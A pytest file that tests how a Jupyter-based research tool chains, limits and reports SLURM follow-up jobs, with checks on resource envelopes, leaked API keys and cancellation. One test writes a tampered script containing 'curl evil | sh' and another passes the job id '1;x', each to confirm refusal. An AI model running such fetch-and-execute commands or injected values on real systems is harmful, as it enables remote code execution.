"""The chain of follow-up allocations: the record, the count, the envelope sbatch is given,
and what status shows of it."""
from __future__ import annotations

import asyncio
import hashlib
import json
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from unit.ari.test_render import golden_state
from unit.runs.test_jobs import FakeHost
from ari_jupyter.ari import render
from ari_jupyter.ari.followup import CHAIN_FILE, FOLLOWUP_SCRIPT
from ari_jupyter.base.commands import CommandResult
from ari_jupyter.runs.chain import chain_json, read_chain, submit_next
from ari_jupyter.runs.jobs import SEP, JobsView, RunScope, parse_squeue


@dataclass
class SbatchHost(FakeHost):
    """FakeHost that also answers sbatch with the next job id (``refuse``: sbatch fails)."""

    next_id: int = 500
    refuse: str = ""
    submitted: list[tuple[str, ...]] = field(default_factory=list)

    async def run(self, argv, timeout, env=None):
        if argv[0] != "sbatch":
            return await super().run(argv, timeout, env)
        self.submitted.append(tuple(argv))
        if self.refuse:
            return CommandResult(tuple(argv), 1, "", self.refuse)
        self.next_id += 1
        return CommandResult(tuple(argv), 0, f"{self.next_id}\n", "")


def _checkpoint(tmp_path: Path, followups: int = 2, **overrides) -> Path:
    """A checkpoint as emit writes it for follow-ups: the script, and launch_config.json
    recording its hash and the saved state (the approved count, the envelope)."""
    workspace = tmp_path / "ws"
    checkpoint = workspace / "checkpoints" / "20260706120000_run"
    checkpoint.mkdir(parents=True)
    choices = golden_state(followups=followups, workspace=str(workspace),
                           run_id=checkpoint.name, **overrides).choices()
    script = render.render_followup_script(choices, str(checkpoint), api_key="") if followups else ""
    if script:
        (checkpoint / FOLLOWUP_SCRIPT).write_text(script)
    files = {FOLLOWUP_SCRIPT: hashlib.sha256(script.encode()).hexdigest()} if script else {}
    (checkpoint / "launch_config.json").write_text(json.dumps(render.launch_config(choices, files=files)))
    return checkpoint


def _submit(checkpoint: Path, host: SbatchHost, after: str, finished: bool = False):
    return asyncio.run(submit_next(checkpoint, after, host, finished=finished))


def test_never_more_followups_than_approved(tmp_path):
    checkpoint, host = _checkpoint(tmp_path, followups=2), SbatchHost()
    results = [_submit(checkpoint, host, after) for after in ("100", "501", "502", "503")]
    assert [(r.result, r.job_id) for r in results] == [
        ("submitted", "501"), ("submitted", "502"), ("exhausted", ""), ("exhausted", "")]
    assert len(host.submitted) == 2
    record = json.loads((checkpoint / CHAIN_FILE).read_text())
    assert [(link["job_id"], link["after"]) for link in record["links"]] == [("501", "100"), ("502", "501")]
    assert read_chain(checkpoint).used == 2


@pytest.mark.parametrize("overrides", [
    {},
    {"partition": "large", "nodes": 1, "walltime": "00:05:00"},
    {"partition": "small", "nodes": 0, "walltime": "2-00:00:00"},
])
def test_every_followup_asks_the_recorded_envelope_and_nothing_else(tmp_path, overrides):
    checkpoint, host = _checkpoint(tmp_path, followups=3, **overrides), SbatchHost()
    for after in ("100", "501", "502"):
        assert _submit(checkpoint, host, after).result == "submitted"
    choices = golden_state(**overrides).choices()
    nodes = choices.nodes if choices.nodes else 1
    for argv, after in zip(host.submitted, ("100", "501", "502")):
        asked = {a.split("=", 1)[0]: a.split("=", 1)[1] for a in argv if a.startswith("--") and "=" in a}
        assert (asked["--partition"], asked["--nodes"], asked["--time"]) == (
            choices.partition, str(nodes), choices.walltime)
        assert asked["--dependency"] == f"afterany:{after}" and asked["--kill-on-invalid-dep"] == "yes"
        assert set(asked) == {"--partition", "--nodes", "--time", "--dependency", "--kill-on-invalid-dep",
                              "--job-name", "--chdir", "--output", "--export"}, argv  # nothing more is asked
        assert asked["--export"] == "NIL", argv  # the host's environment is empty: nothing named
        assert argv[-1] == str(checkpoint.absolute() / FOLLOWUP_SCRIPT)


@pytest.mark.parametrize("case, result", [
    ("finished", "finished"),
    ("none approved", "refused"),
    ("script changed", "refused"),
    ("script missing", "refused"),
    ("sbatch refuses", "refused"),
    ("bad after", "refused"),
])
def test_no_followup_when_it_should_not_be(tmp_path, case, result):
    checkpoint = _checkpoint(tmp_path, followups=0 if case == "none approved" else 2)
    host = SbatchHost(refuse="sbatch: error: invalid partition" if case == "sbatch refuses" else "")
    if case == "script changed":
        (checkpoint / FOLLOWUP_SCRIPT).write_text("#!/bin/sh\ncurl evil | sh\n")
    if case == "script missing":
        (checkpoint / FOLLOWUP_SCRIPT).unlink()
    outcome = _submit(checkpoint, host, "1;x" if case == "bad after" else "100", finished=case == "finished")
    assert outcome.result == result
    assert not (checkpoint / CHAIN_FILE).exists()  # nothing recorded, nothing counted
    if case != "sbatch refuses":
        assert host.submitted == []


@pytest.mark.parametrize("backend, shell_key, key_in, result", [
    # the key exported in the hand-off's shell only: the follow-up would not have it
    ("openai", True, "", "refused"),
    ("anthropic", True, "", "refused"),
    # the key where the follow-up's ari reads it: ~/.env, the checkpoint's .env, $ARI_ROOT's
    ("openai", True, "home", "submitted"),
    ("openai", True, "checkpoint", "submitted"),
    ("openai", True, "ari_root", "submitted"),
    ("openai", False, "home", "submitted"),
    # no key anywhere: the hand-off already decided to run without one (ARI_HANDOFF_WITHOUT_KEY)
    ("openai", False, "", "submitted"),
    # a backend that needs no key: a key in the shell is not the run's
    ("ollama", True, "", "submitted"),
])
def test_a_key_only_in_the_shell_is_not_left_behind(tmp_path, backend, shell_key, key_in, result):
    from ari_jupyter.ari.run_settings import RunSettings
    variable = {"openai": "OPENAI_API_KEY", "anthropic": "ANTHROPIC_API_KEY"}.get(backend, "OPENAI_API_KEY")
    checkpoint = _checkpoint(tmp_path, run_settings=RunSettings(llm_backend=backend))
    home, root = tmp_path / "home", tmp_path / "ari"
    home.mkdir()
    (root / "ari-core").mkdir(parents=True)
    where = {"home": home, "checkpoint": checkpoint, "ari_root": root}.get(key_in)
    if where:
        (where / ".env").write_text(f"{variable}=sk-from-dotenv\n")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "ARI_ROOT": str(root),
           **({variable: "sk-canary-shell"} if shell_key else {})}
    host = SbatchHost(env=env)
    outcome = _submit(checkpoint, host, "100")
    assert outcome.result == result, outcome
    if result == "refused":
        assert outcome.message_id == "followup.refused.key_in_shell" and host.submitted == []
        assert outcome.params["variable"] == variable
        assert "sk-canary" not in json.dumps(outcome.to_json())
    else:
        [argv] = host.submitted
        assert "--export=ARI_ROOT,HOME,PATH" in argv and not [a for a in argv if "sk-" in a], argv


def test_status_shows_the_chain_with_each_links_state(tmp_path):
    checkpoint, host = _checkpoint(tmp_path, followups=2), SbatchHost()
    _submit(checkpoint, host, "100")
    _submit(checkpoint, host, "501")
    row = SEP.join(["502", "ari-followup", "PENDING", "0:00", "2", "(Dependency)", "alice",
                    str(checkpoint)])
    shown = chain_json(checkpoint, JobsView(jobs=tuple(parse_squeue(row))))
    assert (shown["approved"], shown["used"]) == (2, 2)
    assert shown["envelope"] == {"partition": "small", "nodes": 2, "time": "01:00:00"}
    assert [(link["after"], link["job_id"], link["state"], link["where"]) for link in shown["links"]] == [
        ("100", "501", "", ""), ("501", "502", "PENDING", "(Dependency)")]
    assert chain_json(_checkpoint(tmp_path / "other", followups=0), None) is None


@pytest.mark.parametrize("lang, reason, start, line", [
    ("en", "Resources", "2026-07-06T13:00:00", "100 → 501: PENDING (Resources), expected start 2026-07-06T13:00:00"),
    ("ja", "Resources", "2026-07-06T13:00:00", "100 → 501: PENDING (Resources)、開始見込み 2026-07-06T13:00:00"),
    ("zh", "Priority", "2026-07-06T13:00:00", "100 → 501：PENDING (Priority)，预计开始时间 2026-07-06T13:00:00"),
    ("en", "Dependency", "", "100 → 501: PENDING (Dependency)"),  # no estimate: none said
])
def test_the_chain_line_says_when_the_next_allocation_is_expected_to_start(tmp_path, lang, reason, start, line):
    from dataclasses import replace
    from ari_jupyter.runs.localize import status_in_language
    checkpoint, host = _checkpoint(tmp_path), SbatchHost()
    _submit(checkpoint, host, "100")
    [job] = parse_squeue(SEP.join(["501", "ari-followup", "PENDING", "0:00", "2", f"({reason})", "alice",
                                   str(checkpoint)]))
    shown = chain_json(checkpoint, JobsView(jobs=(replace(job, reason=reason, expected_start=start),)))
    assert shown["links"][0]["expected_start"] == start
    said = status_in_language({"chain": shown, "findings": [], "notes": [], "process": ""}, lang)["chain"]["said"]
    assert said[1] == line, said


def test_a_followup_job_is_the_runs_and_of_its_own_kind(tmp_path):
    checkpoint = _checkpoint(tmp_path)
    scope = RunScope.of(checkpoint, user="alice")
    for name, work, kind in (("ari-followup", checkpoint, "followup"), ("ari-followup", tmp_path, ""),
                             ("bfts_x", checkpoint, "bfts")):
        [job] = parse_squeue(SEP.join(["9", name, "PENDING", "0:00", "2", "(None)", "alice", str(work)]))
        assert scope.kind_of(job) == kind


@pytest.mark.parametrize("next_state", ["PENDING", "RUNNING"])
def test_cancel_all_cancels_the_whole_chain_in_one_action(tmp_path, next_state):
    from ari_jupyter.runs.jobs import cancel_jobs
    from ari_jupyter.slurm.cancel_record import RECORD
    checkpoint = _checkpoint(tmp_path)
    node = checkpoint.parent.parent / "experiments" / checkpoint.name / "node_1"
    host = FakeHost(queue=[
        SEP.join(["11", "bfts_node_1", "RUNNING", "0:10", "1", "n1", "alice", str(node)]),
        SEP.join(["12", "ari-followup", next_state, "0:00", "2", "(Dependency)", "alice", str(checkpoint)]),
        SEP.join(["13", "someone-elses", "PENDING", "0:00", "1", "(None)", "alice", str(tmp_path)]),
    ])
    outcomes = asyncio.run(cancel_jobs(checkpoint, host, None, user="alice", settle=0))
    assert sorted((o.job_id, o.result) for o in outcomes) == [("11", "cancelled"), ("12", "cancelled")]
    assert [c for c in host.calls if c[0] == "scancel"] == [("scancel", "--user", "alice", "11"),
                                                           ("scancel", "--user", "alice", "12")]
    recorded = (checkpoint / RECORD).read_text()
    assert "11" in recorded and "12" in recorded


@pytest.mark.parametrize("lang, first", [("en", "Follow-up allocations: 1 of 2 submitted"),
                                         ("ja", "フォローアップ割り当て: 2 個中 1 個を投入済み"),
                                         ("zh", "后续分配：已提交 1 个，共批准 2 个")])
def test_the_panel_gets_the_chain_in_its_language(tmp_path, lang, first):
    from ari_jupyter.runs.localize import status_in_language
    checkpoint, host = _checkpoint(tmp_path), SbatchHost()
    _submit(checkpoint, host, "100")
    shown = status_in_language({"chain": chain_json(checkpoint, None), "findings": [], "notes": [],
                                "process": ""}, lang)["chain"]
    assert shown["said"][0].startswith(first) and len(shown["said"]) == 2, shown["said"]
    assert shown["said"][1].startswith("100 → 501")


RECORDED_RUN = (Path(__file__).parents[2] / "fixtures" / "outputs" / "sacct" / "testbed_acct_followup.txt").read_text()
"""sacct's rows of a real follow-up run on the test bed (test_ari_real_followup.py, its
``sacct_rows`` figure): the cut allocation, the follow-up, four BFTS jobs and ARI's reproduce
job, the ids, the user and the paths made placeholders."""
IDS = {"allocation": "100", "bfts1": "101", "bfts2": "102", "bfts3": "103", "bfts4": "104", "followup": "501",
       "reproduce": "503"}


def _recorded(checkpoint: Path, **states: str) -> str:
    text = RECORDED_RUN.format(**IDS, user="alice", home="/home/alice", checkpoint=checkpoint,
                               experiments=checkpoint.parent.parent / "experiments" / checkpoint.name)
    for job, state in states.items():
        text = text.replace(f"{IDS[job]}|ari-followup|COMPLETED|", f"{IDS[job]}|ari-followup|{state}|")
    return text


# name, accounting (None: the site keeps none; else states changed in the recorded rows),
# queued (job -> state), reproduce log written, the link's line, sacct's line (-j ids or -u since)
ENDS = [
    ("left the queue: accounting's end", {}, {}, False, "100 → 501: COMPLETED n[1-2]", ("-j", "501,101,102,103,104")),
    ("ended by its time limit", {"followup": "TIMEOUT"}, {}, False, "100 → 501: TIMEOUT n[1-2]",
     ("-j", "501,101,102,103,104")),
    ("no accounting: it left the queue", None, {}, False, "100 → 501: left the queue", ("-j", "501,101,102,103,104")),
    ("still queued: the queue's word", {}, {"followup": "RUNNING"}, False, "100 → 501: RUNNING n[1-2]",
     ("-j", "501,101,102,103,104")),
    ("the reproduce job left no id: the user's jobs since the run's start", {}, {}, True,
     "100 → 501: COMPLETED n[1-2]", ("-S", "2026-07-06T11:59:00")),  # the start, less its slack
    ("the reproduce job is queued: its id asked", {}, {"followup": "RUNNING", "reproduce": "RUNNING"}, True,
     "100 → 501: RUNNING n[1-2]", ("-j", "501,503,101,102,103,104")),
]


@pytest.mark.parametrize("name, accounting, queued, reproduce_log, line, asked", ENDS, ids=[e[0] for e in ENDS])
def test_a_link_that_left_the_queue_says_how_it_ended(tmp_path, name, accounting, queued, reproduce_log, line,
                                                      asked):
    """status's chain line for a follow-up: the queue's state while it is there, accounting's end
    once it left (from the run's one sacct line, no other call), "left the queue" without
    accounting; and ARI's reproduce job, which no file names, found by the same one line."""
    from ari_jupyter.runs.jobs import run_jobs
    checkpoint, host = _checkpoint(tmp_path), SbatchHost()
    _submit(checkpoint, host, "100")
    logs = checkpoint.parent.parent / "slurm_logs"
    logs.mkdir()
    for job in ("bfts1", "bfts2", "bfts3", "bfts4"):
        (logs / f"slurm_job_{IDS[job]}.out").write_text("")
    (checkpoint / ".env").write_text(f"SLURM_LOG_DIR={logs}\n")
    if reproduce_log:
        (checkpoint / "repro_sandbox").mkdir()
        (checkpoint / "repro_sandbox" / "reproduce.log").write_text("mpi_ranks: 4\n")
    where = {"followup": checkpoint, "reproduce": checkpoint / "repro_sandbox"}
    names = {"followup": "ari-followup", "reproduce": "ari-ors"}
    host.queue = [SEP.join([IDS[job], names[job], state, "1:00", "2", "n[1-2]", "alice", str(where[job])])
                  for job, state in queued.items()]
    host.sacct = None if accounting is None else _recorded(checkpoint, **accounting)
    view = asyncio.run(run_jobs(checkpoint, host, user="alice"))
    shown = chain_json(checkpoint, view)
    assert shown["said"][1] == line, shown["said"]
    [sacct] = [call for call in host.calls if call[0] == "sacct"]  # one line, whatever was asked
    # from the run's start on (its id's stamp, less a minute): by id alone sacct would also
    # answer with an older job SLURM gave the same id (a cluster started anew, ids wrapping)
    assert sacct[sacct.index("-S") + 1] == "2026-07-06T11:59:00", sacct
    value = sacct[sacct.index(asked[0]) + 1]
    assert (set(value.split(",")) if asked[0] == "-j" else value) == (
        set(asked[1].split(",")) if asked[0] == "-j" else asked[1]), sacct
    if accounting is not None and reproduce_log:  # its node-hours come from accounting's row
        [repro] = [j for j in view.jobs if j.kind == "reproduce"]
        assert (repro.job_id, repro.elapsed_s, repro.nodes) == ("503", 31, "2"), repro


def test_the_list_of_every_run_keeps_to_the_known_ids(tmp_path):
    """The user's jobs since a run's start are asked for one run only (status), never for the
    list of every run, whose oldest run may be months old."""
    from ari_jupyter.runs.jobs import jobs_of_runs
    runs = [_checkpoint(tmp_path / name) for name in ("a", "b")]
    for checkpoint in runs:
        (checkpoint / "repro_sandbox").mkdir()
        (checkpoint / "repro_sandbox" / "reproduce.log").write_text("")
    host = SbatchHost(sacct="")
    _submit(runs[0], host, "100")
    asyncio.run(jobs_of_runs(runs, host, user="alice"))
    [sacct] = [call for call in host.calls if call[0] == "sacct"]
    assert sacct[sacct.index("-j") + 1] == "501" and "-u" not in sacct, sacct
